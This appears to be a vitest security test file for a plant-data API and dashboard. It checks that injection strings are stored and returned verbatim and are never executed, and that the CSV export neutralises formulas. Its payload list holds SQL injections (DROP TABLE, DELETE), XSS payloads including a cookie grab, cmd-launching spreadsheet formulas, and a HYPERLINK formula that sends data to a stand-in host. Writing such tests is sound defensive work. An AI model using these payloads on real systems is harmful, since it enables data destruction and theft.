/**
 * Injection strings (issue 7, item 5): SQL, HTML/script, spreadsheet formulas and template syntax sent
 * in every kind of free text (heat numbers, grades and sources by JSON and by CSV, batch codes, lab
 * notes, deviation reasons, spec names, line and user names, key labels) are stored verbatim, read
 * back verbatim as JSON (application/json, nosniff, a CSP that runs nothing), never executed by the
 * database, and harmless on screen: the dashboard writes text only as text and neutralises formulas
 * in its CSV export.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvField, parseCsv, toCsv } from '../../apps/dashboard/src/lib/csv.js';
import { DeviationRepository } from '@ausline/db';
import { createBatch } from '../fixtures/austempering-plant.js';
import { createBatchViaApi, startIngestWorld } from '../ingest-fixtures.js';
import { FuzzClient, type RawReply } from '../fuzz/support.js';

const world = await startIngestWorld('injection');
const client = new FuzzClient(world.api.url);
afterAll(() => client.close());

/** At most 64 characters each, so they fit codes too. */
const INJECTIONS = [
  `'; DROP TABLE "Heat"; --`,
  `" OR "1"="1`,
  `1); SELECT pg_sleep(10); --`,
  `$$; DELETE FROM "Sample"; $$`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(document.cookie)>`,
  `javascript:alert(1)`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.test/?x="&A1,"open")`,
  `{{7*7}} \${7*7} <%= 7*7 %>`,
  `%s%s%n%x \\x00 \\u0000`,
  `\u202egnp.exe ‮ 💥 Ω`,
];

function post(path: string, body: unknown, headers: Record<string, string>): Promise<RawReply> {
  return client.request('POST', path, { headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
}

function expectJsonReply(reply: RawReply): void {
  expect(reply.headers['content-type']).toBe('application/json; charset=utf-8');
  expect(reply.headers['x-content-type-options']).toBe('nosniff');
  expect(reply.headers['content-security-policy']).toContain("default-src 'none'");
}

describe('injection strings are stored and returned verbatim', () => {
  it('heats by JSON: number, grade and source, read back byte for byte; the database still answers', { timeout: 60_000 }, async () => {
    for (const [i, text] of INJECTIONS.entries()) {
      const created = await post('/v1/heats', { heatNumber: text, material: 'STEEL', grade: text, source: text, chemistryWtPct: { C: 0.5 + i / 100 } }, world.labKey.headers);
      expect(created.status, `${text}: ${created.text.slice(0, 200)}`).toBe(201);
      const read = await client.request('GET', `/v1/heats/${created.json.heat.id}`, { headers: world.metallurgist.headers });
      expect(read.status).toBe(200);
      expectJsonReply(read);
      expect([read.json.heatNumber, read.json.grade, read.json.source]).toEqual([text, text, text]);
      const row = await world.db.prisma.heat.findUniqueOrThrow({ where: { id: created.json.heat.id } });
      expect([row.heatNumber, row.grade, row.source]).toEqual([text, text, text]);
    }
    // Filters are parameters, not SQL: a quote-laden filter finds exactly the heat with that number.
    const listed = await client.request('GET', `/v1/heats?heatNumber=${encodeURIComponent(`" OR "1"="1`)}`, { headers: world.metallurgist.headers });
    expect(listed.status).toBe(200);
    expect(listed.json.items.map((h: { heatNumber: string }) => h.heatNumber)).toEqual([`" OR "1"="1`]);
    expect(await world.db.prisma.heat.count()).toBeGreaterThanOrEqual(INJECTIONS.length + 1);
  });

  it('heats by CSV: formula-looking grades are data, stored as sent (neutralising is the export’s job)', async () => {
    const formulas = INJECTIONS.filter((t) => /^[=+\-@]/.test(t));
    const csv = ['heatNumber,material,grade,C', ...formulas.map((f, i) => `CSV-F${i},STEEL,"${f.replace(/"/g, '""')}",0.6`)].join('\r\n');
    const reply = await client.request('POST', '/v1/heats/import', { headers: { ...world.labKey.headers, 'content-type': 'text/csv' }, body: csv });
    expect(reply.status, reply.text.slice(0, 300)).toBe(200);
    const rows = await world.db.prisma.heat.findMany({ where: { heatNumber: { startsWith: 'CSV-F' } }, orderBy: { heatNumber: 'asc' } });
    expect(rows.map((r) => r.grade)).toEqual(formulas);
  });

  it('batch codes, lab notes, deviation reasons, spec, line, user and key names', { timeout: 60_000 }, async () => {
    const batch = await createBatchViaApi(world, INJECTIONS[4]);
    const readBatch = await client.request('GET', `/v1/batches/${batch.id}`, { headers: world.metallurgist.headers });
    expectJsonReply(readBatch);
    expect(readBatch.json.code ?? readBatch.json.batch?.code).toBe(INJECTIONS[4]);

    const note = INJECTIONS.join(' | ');
    const lab = await post(`/v1/batches/${batch.id}/lab-results`, { kind: 'HARDNESS', scale: 'HBW', testStandard: 'ISO 6506-1', readings: [400], externalRef: INJECTIONS[0], location: INJECTIONS[5], note }, world.labKey.headers);
    expect(lab.status, lab.text.slice(0, 300)).toBe(201);
    expect(lab.json.labResult.values.note).toBe(note);
    expect(lab.json.labResult.values.location).toBe(INJECTIONS[5]);
    expect(lab.json.labResult.externalRef).toBe(INJECTIONS[0]);

    const seeded = await createBatch(world.db.prisma, world.plant);
    const change = await new DeviationRepository(world.db.prisma).openOrRefresh(
      { rule: 'bath-band-excursion', severity: 'MAJOR', dedupKey: `${seeded.id}:inj`, channelId: null, message: 'bath out of band', details: {} },
      { batchId: seeded.id, lineId: seeded.lineId, productSpecId: world.plant.specId },
    );
    const reason = `${INJECTIONS[8]} ${INJECTIONS[6]}`;
    const ack = await post(`/v1/deviations/${change!.deviationId}/acknowledge`, { reason }, world.metallurgist.headers);
    expect(ack.status, ack.text.slice(0, 300)).toBe(200);
    const deviation = await client.request('GET', `/v1/deviations/${change!.deviationId}`, { headers: world.quality.headers });
    expectJsonReply(deviation);
    expect(JSON.stringify(deviation.json)).toContain(JSON.stringify(reason).slice(1, -1));

    const spec = await post('/v1/specs', { code: INJECTIONS[1], name: INJECTIONS[6], material: 'STEEL', description: note }, world.quality.headers);
    expect(spec.status, spec.text.slice(0, 300)).toBe(201);
    const readSpec = await client.request('GET', `/v1/specs/${spec.json.spec?.id ?? spec.json.id}`, { headers: world.metallurgist.headers });
    expect(readSpec.status).toBe(200);
    expect(JSON.stringify(readSpec.json)).toContain(JSON.stringify(INJECTIONS[6]).slice(1, -1));

    const line = await post('/v1/lines', { code: 'L-INJ', name: INJECTIONS[5], timeZone: 'UTC' }, world.admin.headers);
    expect(line.status).toBe(201);
    expect(line.json.name).toBe(INJECTIONS[5]);
    const user = await post('/v1/users', { email: 'inj@plant.test', displayName: INJECTIONS[12], roles: ['QUALITY'], password: 'long-enough-password-1' }, world.admin.headers);
    expect(user.status).toBe(201);
    expect(user.json.user.displayName).toBe(INJECTIONS[12]);
    const key = await post('/v1/api-keys', { label: INJECTIONS[9], scope: 'LAB' }, world.admin.headers);
    expect(key.status).toBe(201);
    expect(key.json.label).toBe(INJECTIONS[9]);
    const keys = await client.request('GET', '/v1/api-keys', { headers: world.admin.headers });
    expectJsonReply(keys);
    expect(keys.json.map((k: { label: string }) => k.label)).toContain(INJECTIONS[9]);

    // Every table is still there and nothing was deleted.
    expect(await world.db.prisma.sample.count()).toBe(0);
    expect(await world.db.prisma.heat.count()).toBeGreaterThan(0);
  });
});

describe('harmless on screen: the dashboard', () => {
  const root = join(import.meta.dirname, '../../apps/dashboard/src');
  const sources = (dir: string): string[] =>
    readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) return sources(path);
      return /\.ts$/.test(name) && !/\.test\.ts$/.test(name) ? [path] : [];
    });

  it('never turns text into markup or code: no innerHTML, outerHTML, insertAdjacentHTML, document.write, eval, new Function, srcdoc, inline handlers', () => {
    const files = sources(root);
    expect(files.length).toBeGreaterThan(10);
    const sinks = /\.innerHTML\b|\.outerHTML\b|insertAdjacentHTML|document\.write|\beval\s*\(|new Function\s*\(|srcdoc|setAttribute\(\s*['"]on|DOMParser|createContextualFragment/;
    const offenders = files.filter((f) => sinks.test(readFileSync(f, 'utf8'))).map((f) => f.slice(root.length + 1));
    expect(offenders).toEqual([]);
  });

  it('its element builder puts strings in as text nodes', () => {
    const dom = readFileSync(join(root, 'ui/dom.ts'), 'utf8');
    expect(dom).toMatch(/document\.createTextNode\(String\(child\)\)/);
  });

  it('its CSV export neutralises every formula prefix (=, +, -, @, tab, CR) and keeps the text otherwise', () => {
    // OWASP "CSV Injection": cells starting with = + - @ tab or carriage return are run as formulas.
    for (const text of [...INJECTIONS.filter((t) => /^[=+\-@]/.test(t)), '\t=1+1', '\r=1+1', '=1+1']) {
      const cell = csvField(text);
      const [[parsed]] = parseCsv(`${cell}\r\n`) as [[string]];
      expect(parsed.startsWith("'"), `${JSON.stringify(text)} -> ${cell}`).toBe(true);
      expect(parsed.slice(1)).toBe(text);
    }
    // Other text and numbers come back unchanged.
    const csv = toCsv(['message', 'value'], [[INJECTIONS[4], -2.5], [INJECTIONS[0], 3]]);
    expect(parseCsv(csv)).toEqual([['message', 'value'], [INJECTIONS[4], '-2.5'], [INJECTIONS[0], '3']]);
  });
});
